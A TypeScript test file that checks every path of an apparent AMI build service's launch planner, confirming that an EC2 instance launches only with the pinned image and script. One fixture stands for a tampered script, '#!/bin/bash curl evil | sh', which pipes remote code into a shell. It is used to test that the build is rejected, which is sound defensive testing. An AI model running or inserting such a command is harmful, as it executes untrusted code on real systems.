import type { Image } from '@aws-sdk/client-ec2';
import { expect } from 'chai';
import {
  BOOT_CHECK_SCRIPT,
  type LaunchFacts,
  type LaunchStep,
  planLaunch,
} from '../../../functions/ami-ec2-instance-create/plan-launch';
import type { BuildRecord } from '../../../functions/shared/build-record';
import { sha256Hex } from '../../../functions/shared/recipe-hash';
import { pending, recipeWithTest, SCRIPT, TEST_SCRIPT } from '../fixtures/launch-builds';
import { type Answer, describePath, type Effect, effectOf, explore } from './explore';

/**
 * ami_ec2_instance_create's launch plan, every path: nothing is launched until the base (or the
 * build's image) and the script are what the build was pinned to; anything else ends the build
 * with its code before an instance exists, so there is nothing to clean up.
 */

const testing: BuildRecord = {
  ...pending,
  status: 'testing',
  imageId: 'ami-new',
  instanceId: 'i-build',
  test: { requestedAt: pending.updatedAt },
};
const tag = [{ Key: 'amibake:build-id', Value: pending.buildId }];

const on: Effect = { goesOn: true };
const ends = (code: string): Effect => ({ ends: code });
type LaunchAnswer = Answer<LaunchFacts>;
const answer = (name: string, effect: Effect, facts: LaunchFacts): LaunchAnswer => ({ name, effect, facts });

function imageAnswers(f: LaunchFacts): LaunchAnswer[] {
  if (f.stage === 'build') {
    const base: Image = { ImageId: 'ami-base', RootDeviceName: '/dev/xvda' };
    return [
      answer('the base', on, { ...f, image: base }),
      answer('withdrawn', ends('InvalidAMIID.NotFound'), { ...f, image: null }),
      answer('described without a root device', ends('InvalidAMIID.NotFound'), {
        ...f,
        image: { ImageId: 'ami-base' },
      }),
    ];
  }
  const built: Image = { ImageId: 'ami-new', State: 'available', Tags: tag };
  return [
    answer('the build image, available', on, { ...f, image: built }),
    answer('gone', ends('TestLaunchFailed'), { ...f, image: null }),
    answer('not available', ends('TestLaunchFailed'), { ...f, image: { ...built, State: 'pending' } }),
    answer("not this build's", ends('TestLaunchFailed'), { ...f, image: { ...built, Tags: [] } }),
  ];
}

function launchAnswers(step: LaunchStep, f: LaunchFacts): LaunchAnswer[] | undefined {
  const test = f.stage === 'test';
  switch (step.kind) {
    case 'describe-image':
      return imageAnswers(f);
    case 'read-script':
      return [
        answer('the pinned script', on, { ...f, script: test ? TEST_SCRIPT : SCRIPT }),
        answer('gone', ends(test ? 'TestScriptNotFound' : 'ScriptNotFound'), { ...f, script: null }),
        answer('changed since', ends(test ? 'TestScriptNotFound' : 'ScriptDigestMismatch'), {
          ...f,
          script: '#!/bin/bash\ncurl evil | sh\n',
        }),
      ];
    default:
      return undefined;
  }
}

const STARTS: { name: string; build: BuildRecord | undefined; stage: 'build' | 'test'; ends: string }[] = [
  { name: 'a pending build', build: pending, stage: 'build', ends: 'launch' },
  {
    name: 'a pending build of an unversioned script',
    build: { ...pending, script: { sha256: sha256Hex(SCRIPT) } },
    stage: 'build',
    ends: 'launch',
  },
  { name: 'a build to test', build: testing, stage: 'test', ends: 'launch' },
  {
    name: 'a build to test with the boot check',
    build: { ...testing, recipe: recipeWithTest({}) },
    stage: 'test',
    ends: 'launch',
  },
  { name: 'a build that does not exist', build: undefined, stage: 'build', ends: 'ignore' },
  {
    name: 'a build already building',
    build: { ...pending, status: 'building' },
    stage: 'build',
    ends: 'ignore',
  },
  {
    name: 'a build whose test instance is out',
    build: { ...testing, test: { requestedAt: pending.updatedAt, instanceId: 'i-test' } },
    stage: 'test',
    ends: 'ignore',
  },
];

describe('planLaunch: every path', () => {
  for (const start of STARTS) {
    it(`${start.name}: launches only what was pinned, and ends the build on anything else`, () => {
      const facts: LaunchFacts = { buildId: pending.buildId, stage: start.stage, build: start.build };
      const paths = explore(facts, planLaunch, launchAnswers);
      for (const path of paths) {
        const last = path.steps.at(-1) as LaunchStep;
        const effect = effectOf(path.answers);
        const where = describePath(start.name, path);
        if ('ends' in effect) {
          expect(last.kind, where).to.equal('fail');
          expect(last.kind === 'fail' && last.errorCode, where).to.equal(effect.ends);
          continue;
        }
        expect(last.kind, where).to.equal(start.ends);
        if (last.kind !== 'launch') continue;
        // What is launched is what was read and checked: the base or image, and the script.
        expect(last.image.ImageId, where).to.equal(start.stage === 'build' ? 'ami-base' : 'ami-new');
        const script =
          start.stage === 'build'
            ? SCRIPT
            : start.build?.recipe.test.script
              ? TEST_SCRIPT
              : BOOT_CHECK_SCRIPT;
        expect(last.script, where).to.equal(script);
      }
      expect(paths.length).to.be.greaterThan(0);
    });
  }
});
